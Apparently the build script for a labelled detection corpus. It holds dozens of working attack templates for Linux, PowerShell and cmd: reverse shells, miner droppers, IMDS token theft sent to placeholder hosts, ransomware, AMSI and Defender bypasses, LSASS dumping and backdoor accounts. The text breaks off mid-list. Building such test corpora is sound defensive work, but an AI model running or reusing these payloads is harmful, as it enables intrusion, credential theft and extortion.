"""Build the labelled evaluation corpus: `python -m tests.corpus.build` (rewrites the tree).

Malicious samples reproduce behaviour publicly documented for attacks through VM extensions
(Custom Script Extension, Run Command, DSC): miners and competitor killing, IMDS token theft,
backdoor administrators, reverse shells, ransomware staging, RAT and tunnel installs, defence
tampering, credential dumping. Benign samples are the admin and install scripts that fill those
extensions every day. Every script is written from templates with deterministic parameters, so
the tree is reproducible; obfuscated variants come from tests/obfuscation/obfuscators.py, each
transformation alone and stacked, recorded in the manifest with the path of the original.

Hosts are documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and names
that are never contacted: these files are only ever read as text.
"""

from __future__ import annotations

import json
import random
import re
import shutil
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.obfuscation import obfuscators as ob

CORPUS_DIR = Path(__file__).resolve().parent
MANIFEST = CORPUS_DIR / "manifest.jsonl"
EXTENSIONS = {"powershell": "ps1", "shell": "sh", "cmd": "cmd"}
SEED = 20261129


@dataclass(frozen=True)
class Template:
    label: str
    family: str
    language: str
    text: str
    variants: int = 5

    def __post_init__(self) -> None:
        if self.label == "benign" and self.variants == 5:
            object.__setattr__(self, "variants", 6)


# Parameter pools: every @@name@@ in a template is replaced by a choice from POOLS[name].
POOLS: dict[str, Sequence[str]] = {
    "ip": ["203.0.113.17", "198.51.100.23", "192.0.2.44", "203.0.113.200", "198.51.100.9", "192.0.2.150"],
    "port": ["4444", "443", "8080", "53", "1337", "9001", "8443"],
    "host": ["cdn-update.example", "files.sync-svc.example", "dl.winupdate-cdn.example", "static.metrics-node.example",
             "repo.pkg-mirror.example", "api.telemetry-hub.example"],
    "pool": ["pool.supportxmr.com:3333", "gulf.moneroocean.stream:10128", "xmr-eu1.nanopool.org:14444",
             "pool.hashvault.pro:443", "auto.c3pool.com:13333", "xmr.2miners.com:2222"],
    "wallet": ["44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
               "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
               "43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD"],
    "miner": ["xmrig", "kdevtmpfsi", "sysupdate", "kthreaddk", ".xmr"],
    "dir": ["/tmp/.X11-unix/.x", "/var/tmp/.cache", "/dev/shm/.sys", "/tmp/.ICE-unix/.k", "/usr/share/.fonts"],
    "user": ["support", "helpdesk", "sysadm", "azureadm1n", "backup_svc", "defaultuser2"],
    "password": ["P@ssw0rd!2024", "Winter#2025x", "Adm1n!strat0r", "Qwerty#7788", "Sup3rS3cure!"],
    "task": ["WindowsUpdateCheck", "GoogleUpdateTaskMachine", "MicrosoftEdgeUpdateCore", "OneDriveSync", "AzureAgentHealth"],
    "winpath": ["C:\\Users\\Public\\svc.exe", "$env:TEMP\\wuauclt.exe", "C:\\ProgramData\\Microsoft\\upd.exe",
                "$env:APPDATA\\Teams\\update.exe"],
    "script": ["a.ps1", "update.ps1", "stage2.ps1", "payload.ps1", "inv.ps1"],
    "sh": ["x.sh", "init.sh", "ldr.sh", "cron.sh", "s.sh"],
    "ext": ["locked", "enc", "crypt", "pay", "r4nsom"],
    "pkg": ["nginx", "apache2", "haproxy", "redis-server", "postgresql", "mariadb-server", "git", "jq", "unzip"],
    "site": ["contoso-web", "fabrikam-api", "intranet", "shop-frontend", "reports"],
    "domain": ["contoso.local", "corp.fabrikam.com", "ad.northwind.net", "tailspin.internal"],
    "disk": ["/dev/sdc", "/dev/sdd", "/dev/nvme1n1"],
    "mount": ["/datadrive", "/mnt/data", "/var/lib/docker", "/srv/app", "/data"],
    "appuser": ["deploy", "appsvc", "ci-runner", "webadmin", "ansible"],
    "version": ["1.7.2", "2.4.1", "3.0.8", "1.19.4", "8.2.0"],
    "drive": ["F", "G", "E", "H"],
    "svc": ["nginx", "app-worker", "metrics-exporter", "queue-consumer", "api-gateway"],
    "k8s": ["1.29", "1.30", "1.31"],
    "storage": ["stbackupprod01", "stlogsweu02", "starchivecus"],
}


_PLACEHOLDER = re.compile(r"@@([a-z0-9_]+)@@")


def render(template: Template, rng: random.Random) -> str:
    chosen: dict[str, str] = {}

    def pick(match: re.Match[str]) -> str:
        name = match.group(1)
        if name not in chosen:
            chosen[name] = rng.choice(list(POOLS[name]))
        return chosen[name]

    return _PLACEHOLDER.sub(pick, template.text)


def _header(template: Template, rng: random.Random, index: int) -> str:
    """A comment line that varies between variants, as real scripts carry names and dates."""
    comment = "REM" if template.language == "cmd" else "#"
    words = rng.choice(["setup", "init", "provision", "bootstrap", "maintenance", "config", "run", "task"])
    return f"{comment} {words} {rng.randint(1, 9999):04d} v{index}\n"


# --------------------------------------------------------------------------- malicious
M = "malicious"
B = "benign"

MALICIOUS_SHELL: list[Template] = [
    Template(M, "miner", "shell", """#!/bin/bash
pkill -f kdevtmpfsi; pkill -f kinsing; killall -9 xmrig 2>/dev/null
ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9
rm -rf /tmp/kdevtmpfsi /tmp/kinsing
mkdir -p @@dir@@ && cd @@dir@@
wget -q http://@@ip@@/xmrig.tar.gz -O x.tgz && tar xzf x.tgz && rm -f x.tgz
chmod +x ./@@miner@@
nohup ./@@miner@@ -o stratum+tcp://@@pool@@ -u @@wallet@@ -p x --donate-level 1 -B >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL http://@@ip@@/@@sh@@ | sh") | crontab -
history -c
"""),
    Template(M, "miner", "shell", """#!/bin/sh
sysctl -w vm.nr_hugepages=1280
modprobe msr
cat > /tmp/config.json <<EOF
{ "autosave": true, "cpu": true, "donate-level": 0,
  "pools": [ { "url": "@@pool@@", "user": "@@wallet@@", "pass": "azvm", "tls": false } ] }
EOF
curl -sLo /tmp/@@miner@@ http://@@host@@/bin/@@miner@@
chmod 777 /tmp/@@miner@@
/tmp/@@miner@@ -c /tmp/config.json --background
"""),
    Template(M, "miner", "shell", """#!/bin/bash
# GPU staging
apt-get update -y && apt-get install -y cuda-drivers
wget -q https://github.com/trexminer/T-Rex/releases/download/0.26.8/t-rex-0.26.8-linux.tar.gz
tar -xf t-rex-0.26.8-linux.tar.gz
./t-rex -a ethash -o stratum+ssl://eth.2miners.com:12020 -u 0x7a2b93c4d81f0e2b6b0c8b9a4f55e3c1d2a9e8f1 -w @@user@@ &
"""),
    Template(M, "miner", "shell", """#!/bin/bash
if [ "$(id -u)" != "0" ]; then exit 1; fi
systemctl stop apparmor; systemctl disable apparmor
setenforce 0
ufw disable
/usr/local/qcloud/stargate/admin/uninstall.sh
pkill -9 aliyun-service; rm -rf /usr/local/aegis
curl -s http://@@ip@@/@@sh@@ | bash -s -- @@wallet@@
"""),
    Template(M, "miner", "shell", """#!/bin/bash
cat > /etc/systemd/system/@@svc@@-helper.service <<EOF
[Unit]
Description=System helper
[Service]
ExecStart=@@dir@@/@@miner@@ -o @@pool@@ -u @@wallet@@ --cpu-max-threads-hint=75
Restart=always
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload && systemctl enable --now @@svc@@-helper.service
"""),
    Template(M, "credential_theft", "shell", """#!/bin/bash
TOKEN=$(curl -s -H "Metadata: true" "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" | jq -r .access_token)
curl -s -X POST -d "t=$TOKEN&h=$(hostname)" http://@@ip@@:@@port@@/c
"""),
    Template(M, "credential_theft", "shell", """#!/bin/bash
for d in /root /home/*; do
  tar czf /tmp/.c.tgz $d/.azure/accessTokens.json $d/.azure/msal_token_cache.json $d/.aws/credentials $d/.kube/config 2>/dev/null
done
cat /etc/shadow >> /tmp/.c.txt
curl -s -F "f=@/tmp/.c.tgz" -F "s=@/tmp/.c.txt" https://transfer.sh/up
rm -f /tmp/.c.tgz /tmp/.c.txt
"""),
    Template(M, "credential_theft", "shell", """#!/bin/bash
curl -s http://168.63.129.16/machine/?comp=goalstate -H "x-ms-version: 2012-11-30" > /tmp/gs.xml
curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net" -o /tmp/kv.json
curl -s --data-binary @/tmp/kv.json http://@@host@@/k
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/bash
bash -i >& /dev/tcp/@@ip@@/@@port@@ 0>&1
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/bash
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("@@ip@@",@@port@@));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc @@ip@@ @@port@@ >/tmp/f
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:@@ip@@:@@port@@
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/sh
perl -e 'use Socket;$i="@@ip@@";$p=@@port@@;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
"""),
    Template(M, "reverse_shell", "shell", """#!/bin/bash
while true; do nc -e /bin/bash @@ip@@ @@port@@; sleep 60; done &
"""),
    Template(M, "backdoor_user", "shell", """#!/bin/bash
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash @@user@@
echo "@@user@@:@@password@@" | chpasswd
mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x attacker@kali" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config && systemctl restart sshd
unset HISTFILE; history -c
"""),
    Template(M, "backdoor_user", "shell", """#!/bin/bash
echo '@@user@@:x:0:0::/root:/bin/bash' >> /etc/passwd
echo '@@user@@ ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history
echo > /var/log/auth.log; echo > /var/log/wtmp
"""),
    Template(M, "dropper", "shell", """#!/bin/bash
cd /tmp || cd /var/tmp
wget http://@@ip@@/bins/@@sh@@ -O /tmp/.@@svc@@ || curl -o /tmp/.@@svc@@ http://@@ip@@/bins/@@sh@@
chmod +x /tmp/.@@svc@@
/tmp/.@@svc@@ &
echo "@reboot /tmp/.@@svc@@" | crontab -
"""),
    Template(M, "dropper", "shell", """#!/bin/bash
curl -fsSL http://@@ip@@:@@port@@/@@sh@@ | bash
echo 'curl -fsSL http://@@ip@@:@@port@@/@@sh@@ | bash >/dev/null 2>&1 &' >> ~/.bashrc
"""),
    Template(M, "dropper", "shell", """#!/bin/bash
echo "/usr/local/lib/libsystem.so" > /etc/ld.so.preload
wget -q http://@@host@@/libsystem.so -O /usr/local/lib/libsystem.so
touch -r /bin/ls /usr/local/lib/libsystem.so
"""),
    Template(M, "ransomware", "shell", """#!/bin/bash
KEY=$(head -c 32 /dev/urandom | base64)
find /home /srv /var/www /opt -type f \\( -name '*.sql' -o -name '*.doc*' -o -name '*.tar.gz' \\) | while read f; do
  openssl enc -aes-256-cbc -salt -pass pass:$KEY -in "$f" -out "$f.@@ext@@" && rm -f "$f"
done
echo "All your files have been encrypted. Send 0.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh to get the key" > /root/README_FOR_DECRYPT.txt
curl -s -d "k=$KEY" http://@@ip@@/k
"""),
    Template(M, "ransomware", "shell", """#!/bin/bash
for dev in $(lsblk -dno NAME | grep -v sda); do echo $dev; done
rm -rf /var/backups/* /backup/*
dd if=/dev/zero of=/dev/sda bs=1M count=100
"""),
    Template(M, "remote_access", "shell", """#!/bin/bash
curl -sLo /tmp/ngrok.tgz https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz
tar xzf /tmp/ngrok.tgz -C /usr/local/bin
ngrok config add-authtoken 2abcDEFghiJKLmnoPQRstuVWxyz_1234567890
nohup ngrok tcp 22 >/dev/null 2>&1 &
"""),
    Template(M, "remote_access", "shell", """#!/bin/bash
wget -q https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz -O /tmp/c.gz
gunzip /tmp/c.gz && chmod +x /tmp/c
nohup /tmp/c client @@ip@@:@@port@@ R:socks &
"""),
    Template(M, "remote_access", "shell", """#!/bin/bash
bash -c "$(curl -fsSL https://gsocket.io/y)"
GS_NOCERTCHECK=1 gs-netcat -s @@user@@Secret -l -i &
"""),
    Template(M, "remote_access", "shell", """#!/bin/bash
wget -q https://github.com/fatedier/frp/releases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz -O /tmp/f.tgz
tar xzf /tmp/f.tgz -C /opt
cat > /opt/frpc.toml <<EOF
serverAddr = "@@ip@@"
serverPort = 7000
[[proxies]]
name = "ssh"
type = "tcp"
localPort = 22
remotePort = 6000
EOF
nohup /opt/frp_0.52.3_linux_amd64/frpc -c /opt/frpc.toml &
"""),
    Template(M, "defence_evasion", "shell", """#!/bin/bash
export HISTFILE=/dev/null
rm -rf /var/log/azure/custom-script /var/lib/waagent/custom-script/download/0/*
shred -u /var/log/auth.log /var/log/syslog
mkdir -p /usr/share/.fonts && cd /usr/share/.fonts
curl -sO http://@@ip@@/@@sh@@ && nohup bash @@sh@@ &
"""),
    Template(M, "miner", "shell", """#!/bin/bash
export LC_ALL=C
ulimit -n 65535
for p in $(ps -eo pid,comm | awk '$2 ~ /(kswapd0|watchdogs|xmr|@@miner@@)/ {print $1}'); do kill -9 $p; done
chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
curl -fsSL http://@@ip@@/dl/kthreadd -o @@dir@@/kthreadd || wget -q http://@@ip@@/dl/kthreadd -O @@dir@@/kthreadd
chmod +x @@dir@@/kthreadd
@@dir@@/kthreadd -o @@pool@@ -u @@wallet@@ -k --tls
"""),
    Template(M, "persistence", "shell", """#!/bin/bash
cp /bin/bash /tmp/.sh; chmod 4755 /tmp/.sh
echo '* * * * * root /tmp/.sh -p -c "bash -i >& /dev/tcp/@@ip@@/@@port@@ 0>&1"' > /etc/cron.d/0hourly-sync
"""),
    Template(M, "backdoor_user", "shell", """#!/bin/bash
docker run -d --privileged --net host -v /:/host alpine chroot /host bash -c 'echo "ssh-rsa AAAAB3NzaC1yc2E @@user@@" >> /root/.ssh/authorized_keys'
"""),
    Template(M, "dsc_run_command_abuse", "shell", """#!/bin/bash
# Run Command payload
UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
eval "$UD"
curl -s http://@@ip@@/@@sh@@ | bash
rm -rf /var/lib/waagent/run-command/download/*
"""),
]

MALICIOUS_POWERSHELL: list[Template] = [
    Template(M, "dropper", "powershell", """IEX (New-Object Net.WebClient).DownloadString('http://@@ip@@/@@script@@')
"""),
    Template(M, "dropper", "powershell", """$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://@@host@@/@@script@@ | iex
"""),
    Template(M, "dropper", "powershell", """$u = 'http://@@ip@@:@@port@@/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + '@@script@@')
Invoke-Expression $s
"""),
    Template(M, "dropper", "powershell", """Start-BitsTransfer -Source http://@@ip@@/svc.exe -Destination @@winpath@@
Start-Process -WindowStyle Hidden @@winpath@@
New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '@@task@@' -Value '@@winpath@@' -PropertyType String -Force
"""),
    Template(M, "dropper", "powershell", """$b = (New-Object Net.WebClient).DownloadData('http://@@host@@/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
"""),
    Template(M, "defence_tampering", "powershell", """Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\\'
Add-MpPreference -ExclusionExtension '.exe'
(New-Object Net.WebClient).DownloadFile('http://@@ip@@/svc.exe', "$env:TEMP\\svc.exe")
Start-Process "$env:TEMP\\svc.exe"
"""),
    Template(M, "defence_tampering", "powershell", """[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/@@user@@')
"""),
    Template(M, "defence_tampering", "powershell", """$settings = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null)
$settings['HKEY_LOCAL_MACHINE\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)
"""),
    Template(M, "defence_tampering", "powershell", """New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Stop-Service -Name WinDefend -Force
"""),
    Template(M, "credential_theft", "powershell", """IEX (New-Object Net.WebClient).DownloadString('http://@@ip@@/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\\Users\\Public\\o.txt
"""),
    Template(M, "credential_theft", "powershell", """$p = Get-Process lsass
rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id C:\\Users\\Public\\lsass.dmp full
Compress-Archive C:\\Users\\Public\\lsass.dmp C:\\Users\\Public\\l.zip
Invoke-WebRequest -Uri http://@@ip@@/u -Method Post -InFile C:\\Users\\Public\\l.zip
"""),
    Template(M, "credential_theft", "powershell", """reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv /y
reg.exe save HKLM\\SECURITY C:\\Windows\\Temp\\sec.hiv /y
reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.hiv /y
"""),
    Template(M, "credential_theft", "powershell", """$r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
Invoke-RestMethod -Method Post -Uri 'http://@@host@@/t' -Body ($r | ConvertTo-Json)
"""),
    Template(M, "credential_theft", "powershell", """$t = (Invoke-WebRequest -UseBasicParsing -Headers @{Metadata="true"} "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F").Content | ConvertFrom-Json
$h = @{Authorization = "Bearer $($t.access_token)"}
$vms = Invoke-RestMethod -Headers $h "https://management.azure.com/subscriptions/$sub/providers/Microsoft.Compute/virtualMachines?api-version=2023-03-01"
foreach ($vm in $vms.value) { Invoke-RestMethod -Method Post -Headers $h -Uri "https://management.azure.com$($vm.id)/runCommand?api-version=2023-03-01" -Body '{"commandId":"RunPowerShellScript","script":["iwr http://@@ip@@/@@script@@|iex"]}' -ContentType application/json }
"""),
    Template(M, "credential_theft", "powershell", """$h = @{ Metadata = 'true' }
$tok = irm -Headers $h -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https://management.azure.com'
$b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($tok.access_token))
Resolve-DnsName "$($b64.Substring(0,60)).x.@@host@@" -ErrorAction SilentlyContinue
"""),
    Template(M, "credential_theft", "powershell", """Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx,*.pfx,*.pem,id_rsa -ErrorAction SilentlyContinue | Compress-Archive -DestinationPath C:\\ProgramData\\d.zip
Invoke-RestMethod -Uri 'https://transfer.sh/@@user@@.zip' -Method Put -InFile C:\\ProgramData\\d.zip
"""),
    Template(M, "credential_theft", "powershell", """Get-ChildItem C:\\Users\\*\\.azure\\msal_token_cache.bin, C:\\Users\\*\\.azure\\accessTokens.json -ErrorAction SilentlyContinue | Copy-Item -Destination C:\\Windows\\Temp\\t\\
Compress-Archive C:\\Windows\\Temp\\t C:\\Windows\\Temp\\t.zip
(New-Object Net.WebClient).UploadFile('http://@@ip@@/up', 'C:\\Windows\\Temp\\t.zip')
"""),
    Template(M, "reverse_shell", "powershell", """$client = New-Object System.Net.Sockets.TCPClient('@@ip@@',@@port@@);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
"""),
    Template(M, "reverse_shell", "powershell", """$l = [System.Net.Sockets.TcpListener]@@port@@
$l.Start()
$c = $l.AcceptTcpClient()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
"""),
    Template(M, "backdoor_user", "powershell", """$pw = ConvertTo-SecureString '@@password@@' -AsPlainText -Force
New-LocalUser -Name '@@user@@' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member '@@user@@'
Add-LocalGroupMember -Group 'Remote Desktop Users' -Member '@@user@@'
Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
"""),
    Template(M, "dsc_run_command_abuse", "powershell", """New-Item -ItemType Directory -Force -Path C:\\WindowsAzure\\Packages\\Tools | Out-Null
$s = 'while($true){ $c = Invoke-RestMethod -Headers @{Metadata="true"} "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text"; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c))); Start-Sleep 300 }'
$s | Out-File C:\\WindowsAzure\\Packages\\Tools\\@@task@@.ps1
$a = New-ScheduledTaskAction -Execute powershell.exe -Argument '-NoP -W Hidden -File C:\\WindowsAzure\\Packages\\Tools\\@@task@@.ps1'
Register-ScheduledTask -TaskName '@@task@@' -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM
Remove-Item -Recurse -Force 'C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.15\\Downloads\\*'
"""),
    Template(M, "dsc_run_command_abuse", "powershell", """Configuration @@task@@ {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://@@ip@@/@@script@@') }
    }
  }
}
"""),
    Template(M, "dsc_run_command_abuse", "powershell", """netsh interface portproxy add v4tov4 listenport=@@port@@ listenaddress=0.0.0.0 connectport=80 connectaddress=169.254.169.254
New-NetFirewallRule -DisplayName 'svc' -Direction Inbound -LocalPort @@port@@ -Protocol TCP -Action Allow
"""),
    Template(M, "persistence", "powershell", """$filter = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='@@task@@';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$consumer = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='@@task@@';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://@@ip@@/@@script@@')"}
Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
"""),
    Template(M, "persistence", "powershell", """$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://@@ip@@:@@port@@/@@script@@'))`""
schtasks /create /tn "@@task@@" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
"""),
    Template(M, "ransomware", "powershell", """vssadmin.exe delete shadows /all /quiet
Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = [Text.Encoding]::UTF8.GetBytes('@@password@@@@password@@'.Substring(0,32))
Get-ChildItem -Path D:\\, E:\\, C:\\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + '.@@ext@@', $enc)
  Remove-Item $_.FullName -Force
}
Set-Content C:\\Users\\Public\\Desktop\\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
"""),
    Template(M, "ransomware", "powershell", """bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
wevtutil cl System; wevtutil cl Security; wevtutil cl Application
"""),
    Template(M, "remote_access", "powershell", """Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\\ProgramData\\AnyDesk.exe
cmd /c "C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"
cmd /c "echo @@password@@ | C:\\ProgramData\\AnyDesk\\AnyDesk.exe --set-password"
net user @@user@@ @@password@@ /add
net localgroup administrators @@user@@ /add
"""),
    Template(M, "remote_access", "powershell", """Invoke-WebRequest 'https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64.exe' -OutFile "$env:TEMP\\rd.exe"
Start-Process "$env:TEMP\\rd.exe" -ArgumentList '--silent-install' -Wait
& 'C:\\Program Files\\RustDesk\\rustdesk.exe' --password '@@password@@'
"""),
    Template(M, "remote_access", "powershell", """Invoke-WebRequest 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OutFile $env:TEMP\\n.zip
Expand-Archive $env:TEMP\\n.zip -DestinationPath C:\\ProgramData\\ng
C:\\ProgramData\\ng\\ngrok.exe authtoken 2abcDEFghiJKLmnoPQRstuVWxyz_0987654321
Start-Process -WindowStyle Hidden C:\\ProgramData\\ng\\ngrok.exe -ArgumentList 'tcp 3389'
"""),
    Template(M, "miner", "powershell", """$d = "$env:APPDATA\\Microsoft\\Network"
New-Item -ItemType Directory -Force $d | Out-Null
Invoke-WebRequest 'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip' -OutFile "$d\\x.zip"
Expand-Archive "$d\\x.zip" $d -Force
Start-Process -WindowStyle Hidden "$d\\xmrig-6.21.0\\xmrig.exe" -ArgumentList '-o @@pool@@ -u @@wallet@@ -k --donate-level 1'
Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '@@task@@' -Value "$d\\xmrig-6.21.0\\xmrig.exe"
"""),
    Template(M, "lateral_movement", "powershell", """$targets = Get-Content C:\\Windows\\Temp\\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://@@ip@@/@@script@@)"
}
"""),
    Template(M, "defence_evasion", "powershell", """Clear-EventLog -LogName Application, System, Security
Remove-Item (Get-PSReadlineOption).HistorySavePath -Force
Set-PSReadlineOption -HistorySaveStyle SaveNothing
$f = Get-Item @@winpath@@
$f.CreationTime = '01/01/2019 08:00:00'; $f.LastWriteTime = '01/01/2019 08:00:00'
attrib +h +s @@winpath@@
"""),
    Template(M, "defence_evasion", "powershell", """$code = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
'@
$k = Add-Type -MemberDefinition $code -Name K32 -PassThru
[Byte[]]$sc = (New-Object Net.WebClient).DownloadData('http://@@ip@@/sc.bin')
$m = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)
$k::CreateThread(0, 0, $m, 0, 0, 0)
"""),
]

MALICIOUS_CMD: list[Template] = [
    Template(M, "dropper", "cmd", """@echo off
certutil.exe -urlcache -split -f http://@@ip@@/svc.exe %TEMP%\\svc.exe
start "" %TEMP%\\svc.exe
"""),
